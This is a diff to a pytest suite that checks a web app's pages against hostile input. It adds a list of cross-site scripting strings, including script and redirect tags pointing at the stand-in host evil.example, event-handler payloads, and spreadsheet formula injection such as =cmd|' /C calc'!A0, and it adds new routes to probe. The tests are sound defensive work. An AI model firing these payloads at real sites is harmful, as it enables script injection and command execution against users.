@@ -26,6 +26,25 @@ PAYLOADS = (
     "\udcff\ud800",
     "a" * 3000,
 )
+_BEGINNINGS = ("", '"', "'", ">", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</svg>", "\x00", "\u202e")
+_MIDDLES = (
+    "<script src=//evil.example>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<style>*{display:none}</style>",
+    " autofocus onfocus=alert(1) x=",
+    "<iframe srcdoc='<script>1</script>'>",
+    "<math><mi//xlink:href=data:x,1>",
+    "<template shadowrootmode=open>",
+    "\uff1cscript\uff1e",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "+1\t-1\r\n=1",
+)
+MANY = (*PAYLOADS, *(beginning + middle for beginning in _BEGINNINGS for middle in _MIDDLES))
 INVISIBLE = "\u202e\u2066\u2069\u200f\u2028\u2029\ufeff\u00ad\U000e0041\x1b\x07\x08\x00"
 
 
@@ -52,7 +71,7 @@ def kinds(answer):
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory, settings, directory):
     """The same afternoon, but every stranger is hostile."""
-    payloads = cycle(PAYLOADS)
+    payloads = cycle(MANY)
     with page(tmp_path_factory.mktemp("hostile"), settings, directory, lambda text: next(payloads) + text) as reader:
         yield reader
 
@@ -62,6 +81,14 @@ ADDRESSES = (
     "/held",
     "/held/10",
     "/held/11",
+    "/wall",
+    "/wall?dealer=honda-laval",
+    "/shop?shop=fixauto-laval",
+    "/shop?shop=csn-sherbrooke",
+    "/search?q=HON-2026-000003",
+    "/search",
+    "/reports",
+    "/operations",
     *(f"/requests/{number}" for number in ("HON-2026-000003", "NIS-2026-000001", "KIA-2026-000001", "GMC-2026-000001")),
 )
 
@@ -80,14 +107,25 @@ def test_hostile_text_hides_nothing(hostile, address):
     assert set() == set(INVISIBLE) & set(hostile.ask(address).body)
 
 
+@pytest.fixture(scope="module")
+def ours(afternoon):
+    """Every kind of element and attribute that the page itself makes."""
+    known = ("/", "/nowhere", "/wall", "/shop?shop=fixauto-laval", "/search?q=x", "/reports", "/operations")
+    return {kind for each in known for kind in kinds(afternoon.ask(each))}
+
+
 @pytest.mark.parametrize("payload", ["%3Cscript%3E", "%22onload%3D1", "%E2%80%AE", "%00", "%27--", "x" * 3000])
-@pytest.mark.parametrize("place", ["/?brand=", "/?dealer=", "/?before=", "/?lang=", "/requests/", "/held/", "/", "//"])
-def test_a_hostile_address_makes_no_element(afternoon, place, payload):
+@pytest.mark.parametrize(
+    "place",
+    [
+        *("/?brand=", "/?dealer=", "/?before=", "/?lang=", "/requests/", "/held/", "/", "//", "/enter/"),
+        *("/wall?dealer=", "/wall?x=", "/shop?shop=", "/search?q=", "/reports?brand=", "/operations?brand="),
+    ],
+)
+def test_a_hostile_address_makes_no_element(afternoon, ours, place, payload):
     """Whatever stands in the address, the answer is a page of ours without a trace of markup."""
     answer = afternoon.ask(place + payload)
-    ours = kinds(afternoon.ask("/")) | kinds(afternoon.ask("/nowhere"))
-
-    assert (set(), 1) == (kinds(answer) - ours, answer.body.count("<script"))
+    assert (set(), True) == (kinds(answer) - ours, answer.body.count("<script") in (1, 2))
 
 
 def test_a_path_that_looks_like_a_host_makes_no_link_there(afternoon):
